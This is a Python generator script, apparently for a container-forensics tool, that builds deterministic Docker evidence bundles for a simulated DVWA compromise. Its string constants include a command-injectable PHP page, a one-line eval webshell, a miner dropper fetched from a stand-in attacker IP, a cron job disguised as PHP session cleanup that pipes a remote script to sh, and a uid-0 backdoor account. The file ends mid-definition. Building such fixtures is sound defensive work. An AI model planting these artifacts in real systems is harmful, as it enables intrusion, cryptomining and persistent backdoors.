#!/usr/bin/env python3
"""Regenerate every evidence file under samples/ from scratch.

Usage (from the repository root; Python 3.11+, standard library only):

    python3 samples/generate.py

The output is fully deterministic: fixed times, uid/gid, sorted tar members, no
randomness. Re-running it on an unchanged script gives byte-identical files, and it
rewrites the SHA-256 tables in samples/README.md (between the `sha256-table` markers).

Every artifact mirrors what Docker and the tools in the container write in the wild:
- tars are written like Go's archive/tar as used by moby (USTAR/PAX headers, empty
  uname/gname, no padding to a 10240-byte record, members in filepath.Walk order);
- layer tars are overlay2 diffs (whiteouts converted to `.wh.` files, mode 0600);
- JSON is written like Go's encoding/json (`<`, `>`, `&` escaped as \\u003c \\u003e \\u0026);
- tables are laid out like Go's text/tabwriter with the docker CLI's settings.
"""

from __future__ import annotations

import base64
import calendar
import datetime
import hashlib
import io
import json
import os
import re
import tarfile
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))


# ---------------------------------------------------------------------------------------
# Small helpers
# ---------------------------------------------------------------------------------------


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def fake_id(seed: str) -> str:
    """A stable 64-hex id (container, network, endpoint ids are random in real life)."""
    return sha256(("ctriage-sample:" + seed).encode())


def t(s: str) -> int:
    """'2026-11-27T14:02:03' (UTC) -> unix seconds."""
    return calendar.timegm(datetime.datetime.strptime(s, "%Y-%m-%dT%H:%M:%S").timetuple())


def utc(epoch: int) -> datetime.datetime:
    return datetime.datetime.fromtimestamp(epoch, datetime.timezone.utc)


def go_time(epoch: int, nanos: int = 0, fixed: bool = False) -> str:
    """Go's time.RFC3339Nano (trailing zeros trimmed) or moby's RFC3339NanoFixed."""
    base = utc(epoch).strftime("%Y-%m-%dT%H:%M:%S")
    if fixed:
        return f"{base}.{nanos:09d}Z"
    if nanos == 0:
        return base + "Z"
    return f"{base}.{nanos:09d}".rstrip("0") + "Z"


def go_json(obj, indent: int | None = None) -> str:
    """encoding/json output: HTML-safe escapes, UTF-8 kept, Go separators."""
    if indent:
        s = json.dumps(obj, indent=indent, ensure_ascii=False)
    else:
        s = json.dumps(obj, separators=(",", ":"), ensure_ascii=False)
    for ch, esc in (("<", "\\u003c"), (">", "\\u003e"), ("&", "\\u0026")):
        s = s.replace(ch, esc)
    return s.replace("\u2028", "\\u2028").replace("\u2029", "\\u2029")


def tabwriter(rows: list[list[str]], minwidth: int, padding: int) -> str:
    """Go text/tabwriter with padchar ' ' and flags 0: every cell but the last in a row is
    a column cell; a column is max(minwidth, widest cell + padding) wide."""
    ncols = max(len(r) for r in rows) - 1
    widths = []
    for c in range(ncols):
        w = max(len(r[c]) for r in rows if len(r) > c + 1) + padding
        widths.append(max(w, minwidth))
    out = []
    for r in rows:
        line = "".join(cell.ljust(widths[i]) for i, cell in enumerate(r[:-1])) + r[-1]
        out.append(line)
    return "\n".join(out) + "\n"


def elf_stub(label: str, strings: list[str], size: int = 0) -> bytes:
    """A small ELF64 x86-64 executable-looking blob: valid header magic, a few strings,
    padded with fixed bytes to `size` when given."""
    hdr = bytearray(64)
    hdr[0:4] = b"\x7fELF"
    hdr[4:8] = bytes([2, 1, 1, 0])  # 64-bit, little endian, version 1, SYSV ABI
    hdr[16:18] = (2).to_bytes(2, "little")  # ET_EXEC
    hdr[18:20] = (0x3E).to_bytes(2, "little")  # x86-64
    hdr[20:24] = (1).to_bytes(4, "little")
    hdr[24:32] = (0x401000).to_bytes(8, "little")  # entry
    hdr[32:40] = (64).to_bytes(8, "little")  # phoff
    hdr[52:54] = (64).to_bytes(2, "little")  # ehsize
    hdr[54:56] = (56).to_bytes(2, "little")  # phentsize
    body = b"\0" * 64 + ("\0".join([label] + strings) + "\0").encode()
    body += bytes((i * 37 + 11) % 256 for i in range(256))  # fixed "code" bytes
    blob = bytes(hdr) + body
    if not size:
        return blob
    assert len(blob) <= size, (label, len(blob), size)
    return blob + bytes((i * 91 + 7) % 256 for i in range(size - len(blob)))


def class_stub(name: str) -> bytes:
    """Java class file magic + a constant pool-ish string (content is not executed)."""
    return b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + name.encode() + b"\x00" * 8


# ---------------------------------------------------------------------------------------
# Tar writing (moby pkg/archive style) and the layered filesystem model
# ---------------------------------------------------------------------------------------


class E:
    """One filesystem entry. kind: d dir, f file, l symlink, h hard link, s socket (never
    archived: moby skips sockets), w whiteout of `name`, o opaque marker for dir `name`."""

    def __init__(self, name, kind="f", data=b"", mode=None, uid=0, gid=0, mtime=0, link=""):
        self.name = name.strip("/")
        self.kind = kind
        self.data = data.encode() if isinstance(data, str) else data
        if mode is None:
            mode = {"d": 0o755, "f": 0o644, "l": 0o777, "h": 0o644, "s": 0o777, "w": 0o600, "o": 0o755}[kind]
        self.mode, self.uid, self.gid, self.mtime, self.link = mode, uid, gid, mtime, link

    def tar_name(self) -> str:
        if self.kind == "w":
            d, _, b = self.name.rpartition("/")
            return (d + "/" if d else "") + ".wh." + b
        if self.kind == "o":
            return self.name + "/.wh..wh..opq"
        return self.name + ("/" if self.kind == "d" else "")


def walk_key(e: E):
    """filepath.Walk order: a directory, then its children by name. A whiteout sorts where
    the deleted name sat (it is a char device named NAME in the upper dir); the opaque
    marker is written right after its directory."""
    parts = e.name.split("/")
    if e.kind == "o":
        parts.append("")
    return [p.encode() for p in parts]


def tar_bytes(entries: list[E]) -> bytes:
    out = bytearray()
    for e in entries:
        if e.kind == "s":
            continue
        ti = tarfile.TarInfo(e.tar_name())
        ti.type = {"d": tarfile.DIRTYPE, "l": tarfile.SYMTYPE, "h": tarfile.LNKTYPE}.get(e.kind, tarfile.REGTYPE)
        ti.mode, ti.uid, ti.gid, ti.mtime = e.mode, e.uid, e.gid, e.mtime
        ti.uname = ti.gname = ""
        ti.linkname = e.link
        data = e.data if e.kind == "f" else b""
        ti.size = len(data)
        out += ti.tobuf(tarfile.PAX_FORMAT, "utf-8", "surrogateescape")
        if data:
            out += data + b"\0" * ((512 - len(data) % 512) % 512)
    out += b"\0" * 1024
    return bytes(out)


def layer(entries: list[E], dir_mtime: int, lower: dict[str, E] | None = None, owner: tuple[int, int] = (0, 0)) -> list[E]:
    """Complete a layer with its parent directories (an overlay upper dir holds every
    parent of a changed path) and put it in walk order. A parent that exists in `lower`
    (the merged view under this layer) is a copy-up: it keeps its metadata, except that a
    directory whose own entries changed (a child added or deleted) takes the newest such
    child's mtime, as the kernel sets it. A new parent gets `dir_mtime` and `owner`."""
    lower = lower or {}
    explicit = {e.name: e for e in entries if e.kind == "d"}
    needed = set()
    for e in entries:
        parts = e.name.split("/")
        for i in range(1, len(parts)):
            needed.add("/".join(parts[:i]))
    children: dict[str, list[E]] = {}
    for e in entries:
        children.setdefault(e.name.rpartition("/")[0], []).append(e)
    extra = []
    for p in sorted(needed - explicit.keys(), key=lambda p: -p.count("/")):
        if p in lower:
            lo = lower[p]
            changed = [c.mtime for c in children.get(p, []) if c.kind in "wo" or c.name not in lower]
            d = E(p, "d", mode=lo.mode, uid=lo.uid, gid=lo.gid, mtime=max(changed) if changed else lo.mtime)
        else:
            d = E(p, "d", uid=owner[0], gid=owner[1], mtime=dir_mtime)
        extra.append(d)
        children.setdefault(p.rpartition("/")[0], []).append(d)
    return sorted(entries + extra, key=walk_key)


def apply(view: dict[str, E], entries: list[E]) -> None:
    """Apply one layer to a merged view (path -> entry), overlayfs/OCI semantics."""
    for e in entries:
        if e.kind == "o":
            for p in [p for p in view if p.startswith(e.name + "/")]:
                del view[p]
    for e in entries:
        if e.kind == "w":
            for p in [p for p in view if p == e.name or p.startswith(e.name + "/")]:
                del view[p]
    for e in entries:
        if e.kind in "wo":
            continue
        old = view.get(e.name)
        if e.kind != "d" and old is not None and old.kind == "d":
            for p in [p for p in view if p.startswith(e.name + "/")]:
                del view[p]
        view[e.name] = e


def merged(layers: list[list[E]]) -> dict[str, E]:
    view: dict[str, E] = {}
    for entries in layers:
        apply(view, entries)
    return view


def docker_diff(lower: dict[str, E], upper: list[E]) -> str:
    """`docker diff` as dockerd computes it with overlay2's naive diff (common on kernels
    with CONFIG_OVERLAY_FS_REDIRECT_DIR, "Native Overlay Diff: false"): every path
    of the container layer, a directory is `C` when something below it changed, parents
    first, names in byte order."""
    lines = []
    for e in upper:
        if e.kind == "o":
            continue
        if e.kind == "w":
            lines.append("D /" + e.name)
        else:
            lines.append(("C " if e.name in lower else "A ") + "/" + e.name)
    return "\n".join(lines) + "\n"


def init_layer(created: int, lower: dict[str, E]) -> list[E]:
    """The `<id>-init` layer dockerd puts under every container (daemon/initlayer):
    empty 0755 files and dirs that are missing from the image, plus /etc/mtab."""
    want = [
        E("dev/pts", "d", mtime=created),
        E("dev/shm", "d", mtime=created),
        E("proc", "d", mtime=created),
        E("sys", "d", mtime=created),
        E(".dockerenv", "f", mode=0o755, mtime=created),
        E("etc/resolv.conf", "f", mode=0o755, mtime=created),
        E("etc/hosts", "f", mode=0o755, mtime=created),
        E("etc/hostname", "f", mode=0o755, mtime=created),
        E("dev/console", "f", mode=0o755, mtime=created),
        E("etc/mtab", "l", link="/proc/mounts", mtime=created),
    ]
    new = [e for e in want if e.name not in lower]
    return layer(new, created, lower)


def export_tar(view: dict[str, E]) -> bytes:
    """`docker export`: the merged root, walked in order (root itself not included)."""
    return tar_bytes(sorted(view.values(), key=walk_key))


def zip_bytes(files: list[tuple[str, bytes]], when: tuple) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=when)
            zi.external_attr = 0o644 << 16
            zi.create_system = 3
            z.writestr(zi, data)
    return buf.getvalue()


# ---------------------------------------------------------------------------------------
# Image archives
# ---------------------------------------------------------------------------------------


def empty_container_config() -> dict:
    return {
        "Hostname": "", "Domainname": "", "User": "", "AttachStdin": False, "AttachStdout": False,
        "AttachStderr": False, "Tty": False, "OpenStdin": False, "StdinOnce": False, "Env": None,
        "Cmd": None, "Image": "", "Volumes": None, "WorkingDir": "", "Entrypoint": None,
        "OnBuild": None, "Labels": None,
    }


def image_config(top: dict) -> bytes:
    """moby Image.MarshalJSON: top-level keys sorted (it round-trips through a map)."""
    return go_json({k: top[k] for k in sorted(top)}).encode()


def v1_layer_jsons(cfg: dict) -> list[tuple[str, bytes]]:
    """The legacy per-layer v1 json (moby image/tarexport saveImage): every layer but the
    top gets an empty config created at the epoch; the top one carries the image's V1Image
    fields. Ids chain over the layers' chain ids and parents."""
    diff_ids = cfg["rootfs"]["diff_ids"]
    out = []
    parent = chain = ""
    for i, diff_id in enumerate(diff_ids):
        chain = diff_id if i == 0 else "sha256:" + sha256(f"{chain} {diff_id}".encode())
        if i == len(diff_ids) - 1:
            v1 = {"id": "", "parent": parent, "created": cfg["created"], "container": cfg.get("container"),
                  "container_config": cfg.get("container_config", empty_container_config()),
                  "docker_version": cfg.get("docker_version"), "config": cfg["config"],
                  "architecture": cfg["architecture"], "os": cfg["os"]}
        else:
            v1 = {"id": "", "parent": parent, "created": "1970-01-01T00:00:00Z",
                  "container_config": empty_container_config(), "os": cfg["os"]}
        v1 = {k: v for k, v in v1.items() if k == "id" or v}  # omitempty
        v1_id = sha256(go_json({"layer_id": chain, **{k: v for k, v in v1.items() if k != "id"}}).encode())
        v1["id"] = v1_id
        out.append((v1_id, go_json(v1).encode()))
        parent = v1_id
    return out


def save_legacy(config: bytes, layer_tars: list[bytes], created: int, repo: str, tag: str) -> bytes:
    """`docker save` before Docker 25: <v1-id>/{VERSION,json,layer.tar}, <config>.json,
    manifest.json, repositories (members in walk order)."""
    cfg = json.loads(config)
    assert ["sha256:" + sha256(lt) for lt in layer_tars] == cfg["rootfs"]["diff_ids"]
    config_hex = sha256(config)
    entries = []
    layer_paths = []
    for (v1_id, v1_json), lt in zip(v1_layer_jsons(cfg), layer_tars):
        entries.append(E(v1_id, "d", mtime=created))
        entries.append(E(v1_id + "/VERSION", data=b"1.0", mtime=created))
        entries.append(E(v1_id + "/json", data=v1_json, mtime=created))
        entries.append(E(v1_id + "/layer.tar", data=lt, mtime=created))
        layer_paths.append(v1_id + "/layer.tar")
    entries.append(E(config_hex + ".json", data=config, mtime=created))
    manifest = [{"Config": config_hex + ".json", "RepoTags": [f"{repo}:{tag}"], "Layers": layer_paths}]
    entries.append(E("manifest.json", data=go_json(manifest).encode() + b"\n", mtime=0))
    top = layer_paths[-1].split("/")[0]
    entries.append(E("repositories", data=go_json({repo: {tag: top}}).encode() + b"\n", mtime=0))
    return tar_bytes(sorted(entries, key=walk_key))


def save_oci(config: bytes, layer_tars: list[bytes], created: int, saved: int, repo: str, tag: str) -> bytes:
    """`docker save` on Docker 25+ (moby image/tarexport): OCI layout (oci-layout,
    index.json, blobs/sha256/*) plus the legacy manifest.json with LayerSources and
    repositories. Layer blobs are the uncompressed tars (media type ...layer.v1.tar); the
    legacy v1 json of each layer is still written as an unreferenced blob."""
    cfg = json.loads(config)
    platform = {"architecture": cfg["architecture"], "os": cfg["os"]}
    blobs: dict[str, tuple[bytes, int]] = {}
    layer_descs = []
    for lt, (_, v1_json) in zip(layer_tars, v1_layer_jsons(cfg)):
        d = sha256(lt)
        blobs[d] = (lt, created)
        blobs[sha256(v1_json)] = (v1_json, created)
        layer_descs.append({"mediaType": "application/vnd.oci.image.layer.v1.tar", "digest": "sha256:" + d, "size": len(lt)})
    cfg_hex = sha256(config)
    blobs[cfg_hex] = (config, created)
    manifest = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": "sha256:" + cfg_hex,
                   "size": len(config), "platform": platform},
        "layers": layer_descs,
    }
    man_bytes = go_json(manifest).encode()
    man_hex = sha256(man_bytes)
    blobs[man_hex] = (man_bytes, 0)
    index = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.index.v1+json",
        "manifests": [{
            "mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": "sha256:" + man_hex, "size": len(man_bytes),
            "annotations": {"io.containerd.image.name": f"docker.io/{repo}:{tag}", "org.opencontainers.image.ref.name": tag},
            "platform": platform,
        }],
    }
    legacy = [{
        "Config": "blobs/sha256/" + cfg_hex,
        "RepoTags": [f"{repo}:{tag}"],
        "Layers": ["blobs/sha256/" + d["digest"][7:] for d in layer_descs],
        "LayerSources": {d["digest"]: d for d in layer_descs},
    }]
    entries = [E("blobs", "d", mtime=created), E("blobs/sha256", "d", mtime=saved)]
    for hexd, (data, mtime) in blobs.items():
        entries.append(E("blobs/sha256/" + hexd, data=data, mtime=mtime))
    entries.append(E("index.json", data=go_json(index).encode(), mtime=saved))
    entries.append(E("manifest.json", data=go_json(legacy).encode() + b"\n", mtime=0))
    entries.append(E("oci-layout", data=b'{"imageLayoutVersion": "1.0.0"}', mtime=0))
    entries.append(E("repositories", data=go_json({repo: {tag: layer_descs[-1]["digest"][7:]}}).encode() + b"\n", mtime=0))
    return tar_bytes(sorted(entries, key=walk_key))


# ---------------------------------------------------------------------------------------
# Logs
# ---------------------------------------------------------------------------------------


class Log:
    """json-file records: (epoch, nanos, stream, text-with-newline-or-partial)."""

    def __init__(self):
        self.records: list[tuple[int, int, str, str]] = []

    def add(self, when: int, nanos: int, stream: str, text: str) -> None:
        """One line as the copier logs it; lines over 16 KiB become partial records that
        share the first part's timestamp, all but the last without a trailing newline.
        Stamps are kept strictly increasing (the copier stamps each line with time.Now())."""
        if self.records:
            last = self.records[-1][0] * 1_000_000_000 + self.records[-1][1]
            if when * 1_000_000_000 + nanos <= last:
                when, nanos = divmod(last + 1_337, 1_000_000_000)
        data = (text + "\n").encode()
        chunk = 16 * 1024
        while len(data) > chunk:
            self.records.append((when, nanos, stream, data[:chunk].decode()))
            data = data[chunk:]
        self.records.append((when, nanos, stream, data.decode()))

    def json_file(self) -> bytes:
        out = []
        for when, nanos, stream, text in self.records:
            out.append(go_json({"log": text, "stream": stream, "time": go_time(when, nanos)}))
        return ("\n".join(out) + "\n").encode()

    def docker_logs_t(self) -> bytes:
        """`docker logs -t`: each message prefixed by RFC3339NanoFixed and a space."""
        return "".join(f"{go_time(w, n, fixed=True)} {text}" for w, n, _, text in self.records).encode()


def apache_time(epoch: int) -> str:
    return utc(epoch).strftime("%d/%b/%Y:%H:%M:%S +0000")


def apache_err_time(epoch: int, micros: int) -> str:
    d = utc(epoch)
    return d.strftime("%a %b %d %H:%M:%S") + f".{micros:06d} " + d.strftime("%Y")


def combined(ip, when, req, status, size, ref, ua) -> str:
    return f'{ip} - - [{apache_time(when)}] "{req}" {status} {size} "{ref}" "{ua}"'


# ---------------------------------------------------------------------------------------
# Writing
# ---------------------------------------------------------------------------------------

WRITTEN: dict[str, list[str]] = {}
FACTS: dict[str, list[tuple[str, str]]] = {}


def write(bundle: str, rel: str, data: bytes | str) -> None:
    if isinstance(data, str):
        data = data.encode()
    path = os.path.join(HERE, bundle, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    WRITTEN.setdefault(bundle, []).append(rel)


def update_readme() -> None:
    path = os.path.join(HERE, "README.md")
    with open(path, encoding="utf-8") as f:
        text = f.read()
    for bundle, files in WRITTEN.items():
        rows = [f"- {label}: `{value}`" for label, value in FACTS.get(bundle, [])]
        rows += ["", "| file | bytes | sha256 |", "|---|---:|---|"]
        for rel in sorted(files):
            with open(os.path.join(HERE, bundle, rel), "rb") as f:
                data = f.read()
            rows.append(f"| `{bundle}/{rel}` | {len(data)} | `{sha256(data)}` |")
        begin = f"<!-- sha256-table:{bundle}:begin -->"
        end = f"<!-- sha256-table:{bundle}:end -->"
        pat = re.compile(re.escape(begin) + ".*?" + re.escape(end), re.S)
        if not pat.search(text):
            raise SystemExit(f"README.md lacks the {begin} ... {end} markers")
        text = pat.sub(lambda _m: begin + "\n" + "\n".join(rows) + "\n" + end, text)
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)


# ---------------------------------------------------------------------------------------
# Shared rootfs content
# ---------------------------------------------------------------------------------------

ATTACKER = "203.0.113.66"
SCANNER = "198.51.100.23"
HOST_IP = "192.0.2.50"

MASKED = ["/proc/asound", "/proc/acpi", "/proc/kcore", "/proc/keys", "/proc/latency_stats", "/proc/timer_list",
          "/proc/timer_stats", "/proc/sched_debug", "/proc/scsi", "/sys/firmware"]
READONLY = ["/proc/bus", "/proc/fs", "/proc/irq", "/proc/sys", "/proc/sysrq-trigger"]


def host_config(**changes) -> dict:
    """`HostConfig` of a plain `docker run -d` (field order as dockerd prints it), with
    `changes` applied in place."""
    hc = {
        "Binds": None, "ContainerIDFile": "", "LogConfig": {"Type": "json-file", "Config": {}},
        "NetworkMode": "bridge", "PortBindings": {}, "RestartPolicy": {"Name": "no", "MaximumRetryCount": 0},
        "AutoRemove": False, "VolumeDriver": "", "VolumesFrom": None, "ConsoleSize": [0, 0], "CapAdd": None,
        "CapDrop": None, "CgroupnsMode": "private", "Dns": [], "DnsOptions": [], "DnsSearch": [], "ExtraHosts": None,
        "GroupAdd": None, "IpcMode": "private", "Cgroup": "", "Links": None, "OomScoreAdj": 0, "PidMode": "",
        "Privileged": False, "PublishAllPorts": False, "ReadonlyRootfs": False, "SecurityOpt": None, "UTSMode": "",
        "UsernsMode": "", "ShmSize": 67108864, "Runtime": "runc", "Isolation": "", "CpuShares": 0, "Memory": 0,
        "NanoCpus": 0, "CgroupParent": "", "BlkioWeight": 0, "BlkioWeightDevice": [], "BlkioDeviceReadBps": [],
        "BlkioDeviceWriteBps": [], "BlkioDeviceReadIOps": [], "BlkioDeviceWriteIOps": [], "CpuPeriod": 0,
        "CpuQuota": 0, "CpuRealtimePeriod": 0, "CpuRealtimeRuntime": 0, "CpusetCpus": "", "CpusetMems": "",
        "Devices": [], "DeviceCgroupRules": None, "DeviceRequests": None, "MemoryReservation": 0, "MemorySwap": 0,
        "MemorySwappiness": None, "OomKillDisable": None, "PidsLimit": None, "Ulimits": None, "CpuCount": 0,
        "CpuPercent": 0, "IOMaximumIOps": 0, "IOMaximumBandwidth": 0, "MaskedPaths": MASKED,
        "ReadonlyPaths": READONLY,
    }
    assert changes.keys() <= hc.keys(), changes.keys() - hc.keys()
    hc.update(changes)
    return hc


def graph_driver(rw: str, layer_cache_ids: list[str]) -> dict:
    """overlay2 `GraphDriver`: the init layer, then the image layers top to bottom."""
    lower = [f"/var/lib/docker/overlay2/{rw}-init/diff"] + [f"/var/lib/docker/overlay2/{c}/diff" for c in reversed(layer_cache_ids)]
    return {
        "Data": {
            "LowerDir": ":".join(lower),
            "MergedDir": f"/var/lib/docker/overlay2/{rw}/merged",
            "UpperDir": f"/var/lib/docker/overlay2/{rw}/diff",
            "WorkDir": f"/var/lib/docker/overlay2/{rw}/work",
        },
        "Name": "overlay2",
    }

PASSWD_BASE = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
sync:x:4:65534:sync:/bin:/bin/sync
games:x:5:60:games:/usr/games:/usr/sbin/nologin
man:x:6:12:man:/var/cache/man:/usr/sbin/nologin
lp:x:7:7:lp:/var/spool/lpd:/usr/sbin/nologin
mail:x:8:8:mail:/var/mail:/usr/sbin/nologin
news:x:9:9:news:/var/spool/news:/usr/sbin/nologin
uucp:x:10:10:uucp:/var/spool/uucp:/usr/sbin/nologin
proxy:x:13:13:proxy:/bin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
backup:x:34:34:backup:/var/backups:/usr/sbin/nologin
list:x:38:38:Mailing List Manager:/var/list:/usr/sbin/nologin
irc:x:39:39:ircd:/var/run/ircd:/usr/sbin/nologin
gnats:x:41:41:Gnats Bug-Reporting System (admin):/var/lib/gnats:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
_apt:x:100:65534::/nonexistent:/usr/sbin/nologin
"""

SHADOW_BASE = "".join(
    f"{u}:{'*' if u != '_apt' else '*'}:{d}:0:99999:7:::\n"
    for u, d in [("root", 20760), ("daemon", 20760), ("bin", 20760), ("sys", 20760), ("sync", 20760),
                 ("games", 20760), ("man", 20760), ("lp", 20760), ("mail", 20760), ("news", 20760),
                 ("uucp", 20760), ("proxy", 20760), ("www-data", 20760), ("backup", 20760), ("list", 20760),
                 ("irc", 20760), ("gnats", 20760), ("nobody", 20760), ("_apt", 20760)]
)

GROUP_BASE = """root:x:0:
daemon:x:1:
bin:x:2:
sys:x:3:
adm:x:4:
tty:x:5:
disk:x:6:
lp:x:7:
mail:x:8:
news:x:9:
uucp:x:10:
man:x:12:
proxy:x:13:
kmem:x:15:
www-data:x:33:
backup:x:34:
shadow:x:42:
utmp:x:43:
staff:x:50:
users:x:100:
nogroup:x:65534:
"""


def debian_rootfs(epoch: int, os_release: str, version: str, extra: list[E]) -> list[E]:
    """A tiny Debian-like root filesystem (what `ADD rootfs.tar.xz /` puts in layer 1)."""
    m = epoch
    ents = [
        E("bin", "d", mtime=m), E("bin/bash", data=elf_stub("bash", ["GNU bash, version 5.0.3(1)-release"]), mode=0o755, mtime=m),
        E("bin/dash", data=elf_stub("dash", ["dash"]), mode=0o755, mtime=m), E("bin/sh", "l", link="dash", mtime=m),
        E("bin/ls", data=elf_stub("ls", ["GNU coreutils"]), mode=0o755, mtime=m),
        E("bin/cat", data=elf_stub("cat", ["GNU coreutils"]), mode=0o755, mtime=m),
        E("bin/su", data=elf_stub("su", ["shadow-utils"]), mode=0o4755, mtime=m),
        E("boot", "d", mtime=m), E("dev", "d", mtime=m), E("etc", "d", mtime=m),
        E("etc/debian_version", data=version + "\n", mtime=m),
        E("etc/group", data=GROUP_BASE, mtime=m),
        E("etc/os-release", "l", link="../usr/lib/os-release", mtime=m),
        E("etc/passwd", data=PASSWD_BASE, mtime=m),
        E("etc/shadow", data=SHADOW_BASE, mode=0o640, gid=42, mtime=m),
        E("etc/profile", data='if [ "$(id -u)" -eq 0 ]; then\n  PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\nfi\nexport PATH\n', mtime=m),
        E("home", "d", mtime=m), E("lib", "d", mtime=m), E("media", "d", mtime=m), E("mnt", "d", mtime=m),
        E("opt", "d", mtime=m), E("proc", "d", mtime=m), E("root", "d", mode=0o700, mtime=m),
        E("root/.bashrc", data="# ~/.bashrc: executed by bash(1) for non-login shells.\nexport LS_OPTIONS='--color=auto'\n", mtime=m),
        E("root/.profile", data="# ~/.profile: executed by Bourne-compatible login shells.\nmesg n 2> /dev/null || true\n", mtime=m),
        E("run", "d", mtime=m), E("run/lock", "d", mode=0o1777, mtime=m), E("sbin", "d", mtime=m),
        E("srv", "d", mtime=m), E("sys", "d", mtime=m), E("tmp", "d", mode=0o1777, mtime=m),
        E("usr", "d", mtime=m), E("usr/bin", "d", mtime=m),
        E("usr/bin/perl", data=elf_stub("perl", ["This is perl 5"]), mode=0o755, mtime=m),
        E("usr/bin/perl5.28.1", "h", link="usr/bin/perl", mode=0o755, mtime=m),
        E("usr/bin/id", data=elf_stub("id", ["GNU coreutils"]), mode=0o755, mtime=m),
        E("usr/lib", "d", mtime=m), E("usr/lib/os-release", data=os_release, mtime=m),
        E("usr/local", "d", mtime=m), E("usr/local/bin", "d", mtime=m), E("usr/sbin", "d", mtime=m),
        E("usr/share", "d", mtime=m),
        E("var", "d", mtime=m), E("var/cache", "d", mtime=m), E("var/lib", "d", mtime=m),
        E("var/lock", "l", link="/run/lock", mtime=m), E("var/log", "d", mtime=m),
        E("var/run", "l", link="/run", mtime=m), E("var/spool", "d", mtime=m),
        E("var/tmp", "d", mode=0o1777, mtime=m),
    ]
    return layer(ents + extra, m)


# ---------------------------------------------------------------------------------------
# Bundle 1: dvwa (Debian/Apache/PHP/MariaDB; command injection -> reverse shell, webshell,
# miner, uid-0 user, cron, wiped history). Host runs Docker 24.0.7 (legacy docker save).
# ---------------------------------------------------------------------------------------

DVWA_ID = fake_id("dvwa-container")
DVWA_CREATED = (t("2026-11-27T09:12:44"), 318207651)
DVWA_STARTED = (t("2026-11-27T09:12:45"), 61934022)
DVWA_COMMIT = (t("2026-11-27T15:41:07"), 812345671)
DVWA_SHIM_PID, DVWA_PID = 23096, 23118

DVWA_ENV = [
    "MYSQL_ROOT_PASSWORD=Dvwa!R00t-2026",
    "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
]

LOW_PHP = """<?php

if( isset( $_POST[ 'Submit' ]  ) ) {
\t// Get input
\t$target = $_REQUEST[ 'ip' ];

\t// Determine OS and execute the ping command.
\tif( stristr( php_uname( 's' ), 'Windows NT' ) ) {
\t\t// Windows
\t\t$cmd = shell_exec( 'ping  ' . $target );
\t}
\telse {
\t\t// *nix
\t\t$cmd = shell_exec( 'ping  -c 4 ' . $target );
\t}

\t// Feedback for the end user
\t$html .= "<pre>{$cmd}</pre>";
}

?>
"""

MAIN_SH = """#!/bin/bash

chown -R mysql:mysql /var/lib/mysql /var/run/mysqld

echo '[+] Starting mysql...'
service mysql start

echo '[+] Starting apache'
service apache2 start

while true
do
    tail -f /var/log/apache2/*.log
    exit 0
done
"""

WEBSHELL_PHP = "<?php @eval($_POST['cmd']); ?>\n"

MINER_URL = "stratum+tcp://xmr.pool-minexmr.example:4444"
MINER_SIZE = 2214  # what wget reported downloading
MINER_WALLET = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"

M_SH = f"""#!/bin/sh
cd /tmp || cd /var/tmp
wget http://{ATTACKER}:8000/kdevtmpfsi -O /tmp/kdevtmpfsi
chmod +x /tmp/kdevtmpfsi
nohup /tmp/kdevtmpfsi -o {MINER_URL} -u {MINER_WALLET} -p x -k --donate-level 1 >/dev/null 2>&1 &
"""

CRON_FILE = f"""# /etc/cron.d/php-sess-clean: crontab fragment for php
#  This purges session files in session.save_path older than X,
#  where X is defined in seconds as the largest value of
#  session.gc_maxlifetime from all your SAPI php.ini files
*/15 * * * * root (wget -q -O - http://{ATTACKER}:8000/m.sh || curl -fsSL http://{ATTACKER}:8000/m.sh) | sh >/dev/null 2>&1
"""

EVIL_USER = "systemd-netd:x:0:0:systemd Network Helper:/var/lib/systemd-netd:/bin/bash\n"
EVIL_SHADOW = "systemd-netd:$6$Zq3xPp0d$7mJ0b1cK2vQyYz8rT5uW3eN6aD4fG9hL1iO0pS2dF7gH8jK3lZ5xC4vB6nM1qW2eR3tY4uI5oP6aS7dF8gH9j0:20784:0:99999:7:::\n"

BASH_HISTORY = "apt-get update\nmysql -uroot -p\nvi /etc/apache2/sites-enabled/000-default.conf\nexit\n"

MYSQL_PASSWD = "mysql:x:101:101:MySQL Server,,,:/nonexistent:/bin/false\n"
MYSQL_SHADOW = "mysql:!:20767:0:99999:7:::\n"


def dvwa_layers():
    """(layer entries, history) for the original image sagikazarmark/dvwa."""
    base_epoch = t("2026-11-03T00:00:00")
    l1 = debian_rootfs(
        base_epoch,
        'PRETTY_NAME="Debian GNU/Linux 10 (buster)"\nNAME="Debian GNU/Linux"\nVERSION_ID="10"\nVERSION="10 (buster)"\nID=debian\n',
        "10.13",
        [E("root/.bash_history", data=BASH_HISTORY, mode=0o600, mtime=base_epoch)],
    )
    b = t("2026-11-10T08:14:31")
    adm = 4
    l2 = layer([
        E("bin/ps", data=elf_stub("ps", ["procps-ng 3.3.15"]), mode=0o755, mtime=b),
